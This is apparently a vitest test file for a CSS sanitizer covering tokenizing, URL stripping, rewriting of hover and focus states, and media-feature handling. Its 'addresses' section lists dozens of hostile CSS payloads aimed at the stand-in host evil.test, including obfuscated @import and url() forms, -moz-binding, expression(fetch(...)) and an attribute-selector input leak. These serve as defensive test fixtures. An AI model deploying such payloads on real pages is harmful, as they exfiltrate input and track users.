// The CSS of a hostile page loses every address; that of an honest one keeps its meaning.
import { describe, expect, it } from 'vitest';
import { PLAIN_FEATURES, type Features } from '../src/css/media';
import {
  renderSheet,
  sanitizeDeclarations,
  sanitizeMedia,
  sanitizeSheet,
  sheetAssets,
} from '../src/css/sanitize';
import { tokenize } from '../src/css/tokenizer';

const HASH = 'ab'.repeat(32);
const none = (): undefined => undefined;
const sheet = (text: string, features: Features = PLAIN_FEATURES): string =>
  renderSheet(sanitizeSheet(text, features), none);
const style = (text: string): string =>
  renderSheet(sanitizeDeclarations(text, PLAIN_FEATURES), none);

describe('the tokenizer', () => {
  it('decodes escapes in names', () => {
    expect(tokenize('\\75\\72\\6c(x)').map((token) => token.kind)).toEqual(['url']);
    expect(tokenize("@\\69mport 'x'")[0]).toMatchObject({ kind: 'at', value: 'import' });
    expect(tokenize('u\\\nrl(x)').map((token) => token.kind)).toEqual([
      'ident',
      'delim',
      'space',
      'function',
      'ident',
      ')',
    ]);
  });

  it('repeats what it read when every token is written as its source', () => {
    const text =
      "a>b{margin:-.5em +1e3px 50%;content:'x';--v:{a:b}}/*c*/@media (a<1px){}<!-- -->#1a";
    expect(
      tokenize(text)
        .map((token) => token.raw)
        .join(''),
    ).toBe(text);
  });

  it('takes broken strings and addresses as one token', () => {
    expect(tokenize("'a\nb").map((token) => token.kind)).toEqual(['bad-string', 'space', 'ident']);
    expect(tokenize('url(a b)c').map((token) => token.kind)).toEqual(['bad-url', 'ident']);
    expect(tokenize("url(a'b)").map((token) => token.kind)).toEqual(['bad-url']);
    expect(tokenize('url( "a" )').map((token) => token.kind)).toEqual([
      'function',
      'space',
      'string',
      'space',
      ')',
    ]);
  });

  it('ends on every input', () => {
    for (const text of [
      '\\',
      "'",
      'url(',
      '/*',
      '@',
      '#',
      '-',
      '--',
      '\\\n',
      '\0',
      '\uD800',
      'url(\\',
      '+.',
      '1e',
      '<!-',
    ]) {
      expect(() => tokenize(text)).not.toThrow();
    }
  });
});

describe('addresses', () => {
  const leaks = [
    "@import 'http://evil.test/a.css';",
    '@import url(http://evil.test/a.css) screen;',
    '@\\69mport "http://evil.test";',
    "@IMPORT/**/'http://evil.test';",
    "@charset 'http://evil.test';",
    '@namespace url(http://evil.test);',
    '@document url(http://evil.test){a{b:c}}',
    'a{background:url(http://evil.test/x)}',
    "a{background:url('//evil.test/x')}",
    'a{background:URL( "http://evil.test/x" )}',
    'a{background:u\\72l(http://evil.test/x)}',
    'a{background:\\75 \\72 \\6c (http://evil.test/x)}',
    'a{background:url(/**/http://evil.test)}',
    "a{background:image-set('http://evil.test/x' 1x)}",
    'a{background:-webkit-image-set(url(http://evil.test/x) 1x)}',
    'a{background:image-set("http://evil.test/x" type(\'image/png\'))}',
    "a{--x:'http://evil.test';background:image-set(var(--x) 1x)}".replace(
      "'http://evil.test'",
      "'x'",
    ),
    "a{background:cross-fade('http://evil.test/x', red)}",
    "a{background:image('http://evil.test/x')}",
    "a{background:src('http://evil.test/x')}",
    'a{src:src("http://evil.test")}',
    '@font-face{font-family:x;src:url(http://evil.test/f)}',
    'a{cursor:url(http://evil.test/c),auto}',
    'a{content:url(http://evil.test/c)}',
    'a{list-style:url(http://evil.test/c)}',
    'a{filter:url(http://evil.test/c#f)}',
    'a{mask:url(http://evil.test/c#f)}',
    'a{shape-outside:url(http://evil.test/c)}',
    'a{--x:url(http://evil.test/c)}',
    "@property --x{syntax:'<url>';inherits:false;initial-value:url(http://evil.test)}",
    'a{-moz-binding:url(http://evil.test/x.xml#a)}',
    'a{behavior:url(http://evil.test/x.htc)}',
    "a{width:expression(fetch('http://evil.test'))}",
    'a{background:url(http://evil.test/x',
    "a{background:url('http://evil.test/x",
    'input[value^=a]{background:url(http://evil.test/a)}',
    '@supports (background:url(http://evil.test)){a{b:c}}',
    'a{background:url(data:image/svg+xml,http://evil.test)}',
    'a{background:url(javascript:alert(1)//evil.test)}',
    "a{b:c;@import 'http://evil.test';}",
    "(@import 'http://evil.test'",
    "}}}@import 'http://evil.test';",
    'a{'.repeat(300) + 'b:url(http://evil.test)',
    '@media all{@import url(http://evil.test);}',
  ];
  it.each(leaks)('are gone from %s', (text) => {
    const written = sheet(text) + style(text);
    // Strings that are only text may stay; a browser must find no address to fetch.
    const fetched = tokenize(written).filter(
      (token) => (token.kind === 'url' || token.kind === 'bad-url') && token.value.includes('evil'),
    );
    expect(fetched).toEqual([]);
    expect(written.toLowerCase().replace(/\s|\/\*\*\//g, '')).not.toMatch(
      /(url|src|image|cross-fade|image-set|expression)\((['"])?(https?:)?\/\/|@import|var\(--x\)1x/,
    );
  });

  it('lose the properties that bound scripts to elements', () => {
    expect(sheet('a{behavior:none;-moz-binding:none;color:red}')).toBe('a{;;color:red}');
    expect(style('-moz-bin\\64ing:none;color:red')).toBe(';color:red');
  });

  it('leave nothing behind that would spoil the next rule', () => {
    expect(sheet("@import 'x';@charset 'x';@namespace url(x);@document url(x){a{b:c}}p{a:b}")).toBe(
      'p{a:b}',
    );
  });

  it('stay when they are assets or fragments', () => {
    const pieces = sanitizeSheet(
      `a{background:url(asset:${HASH});mask:url(#m)}b{src:url("asset:${HASH}")}`,
      PLAIN_FEATURES,
    );
    expect([...sheetAssets(pieces)]).toEqual([HASH]);
    expect(renderSheet(pieces, () => 'blob:x')).toBe(
      'a{background:url("blob:x");mask:url("#m")}b{src:url("blob:x")}',
    );
    expect(renderSheet(pieces, none)).toContain('background: none ;');
  });

  it('are taken as assets inside image-set', () => {
    const pieces = sanitizeSheet(
      `a{b:image-set("asset:${HASH}" 1x type("image/png"), url(asset:${HASH}) 2x)}`,
      PLAIN_FEATURES,
    );
    expect(renderSheet(pieces, () => 'blob:x')).toBe(
      'a{b:image-set(url("blob:x") 1x type("image/png"), url("blob:x") 2x)}',
    );
  });

  it('cannot be smuggled out of a string by its escapes', () => {
    expect(
      tokenize(sheet("a{content:'\\22 ;background:url(http://evil.test)'}")).filter(
        (token) => token.kind === 'url',
      ),
    ).toEqual([]);
    expect(
      tokenize(style("content:'a\nb;c:url(x)'")).filter((token) => token.kind === 'url'),
    ).toEqual([]);
  });
});

describe('states', () => {
  it('follow the customer', () => {
    expect(sheet('a:hover,a:focus-visible b:ACTIVE{x:y}')).toBe(
      'a[alongside-hover],a[alongside-focus-visible] b[alongside-active]{x:y}',
    );
    expect(sheet('a{&:hover{x:y}b:focus{c:d}}')).toBe(
      'a{&[alongside-hover]{x:y}b[alongside-focus]{c:d}}',
    );
    expect(sheet('a:not(:hover):is(:focus-within,:target){x:y}')).toBe(
      'a:not([alongside-hover]):is([alongside-focus-within],[alongside-target]){x:y}',
    );
    expect(sheet('@media all{@layer x{a:\\68over{x:y}}}')).toBe(
      '@media all{@layer x{a[alongside-hover]{x:y}}}',
    );
  });

  it('are left alone in values and on pseudo-elements', () => {
    expect(sheet('a{animation:hover 1s;grid-area:target}')).toBe(
      'a{animation:hover 1s;grid-area:target}',
    );
    expect(sheet('a::-webkit-scrollbar:hover,b:hover{x:y}')).toBe(
      'a::-webkit-scrollbar:hover,b[alongside-hover]{x:y}',
    );
    expect(sheet('a{--x:{b:hover};--y:hover}')).toBe('a{--x:{b:hover};--y:hover}');
  });
});

describe('device features', () => {
  const dark: Features = {
    colorScheme: 'dark',
    reducedMotion: true,
    hover: false,
    pointer: 'coarse',
    pixelRatio: 2,
  };
  const yes = '(min-width:0px)';
  const no = '(min-width:9999999px)';
  it.each([
    ['(prefers-color-scheme: dark)', no, yes],
    ['(prefers-color-scheme)', yes, yes],
    ['(hover: hover)', yes, no],
    ['(hover)', yes, no],
    ['(any-pointer:fine)', yes, no],
    ['(pointer:coarse)', no, yes],
    ['(prefers-reduced-motion)', no, yes],
    ['(prefers-reduced-motion: no-preference)', yes, no],
    ['(min-resolution: 2dppx)', no, yes],
    ['(min-resolution:192dpi)', no, yes],
    ['(-webkit-min-device-pixel-ratio: 1.5)', no, yes],
    ['(max-resolution: 1dppx)', yes, no],
  ])("%s is the customer's", (query, plain, other) => {
    expect(sanitizeMedia(query, PLAIN_FEATURES)).toBe(plain);
    expect(sanitizeMedia(`screen and ${query}, not all`, dark)).toBe(
      `screen and ${other}, not all`,
    );
  });

  it('of size are left to the frame', () => {
    expect(sanitizeMedia('(min-width: 30em) and (max-device-width:480px)', dark)).toBe(
      '(min-width: 30em) and (max-width:480px)',
    );
    expect(sheet('@media not ((hover:hover) and (width>1px)){a{b:c}}', dark)).toBe(
      `@media not (${no} and (width>1px)){a{b:c}}`,
    );
  });

  it('decide the colour scheme of a page for both', () => {
    expect(sheet(':root{color-scheme:light dark}', dark)).toBe(':root{color-scheme:dark}');
    expect(sheet(':root{color-scheme:light}', dark)).toBe(':root{color-scheme:light}');
  });
});

describe('size', () => {
  it('makes no work beyond its own length', () => {
    for (const text of [
      'a('.repeat(200_000),
      '{'.repeat(200_000),
      'a{'.repeat(100_000),
      '((;'.repeat(100_000),
      '@media ('.repeat(50_000),
      'image-set('.repeat(50_000),
    ]) {
      const begin = performance.now();
      sheet(text);
      expect(performance.now() - begin).toBeLessThan(3000);
    }
  });
});
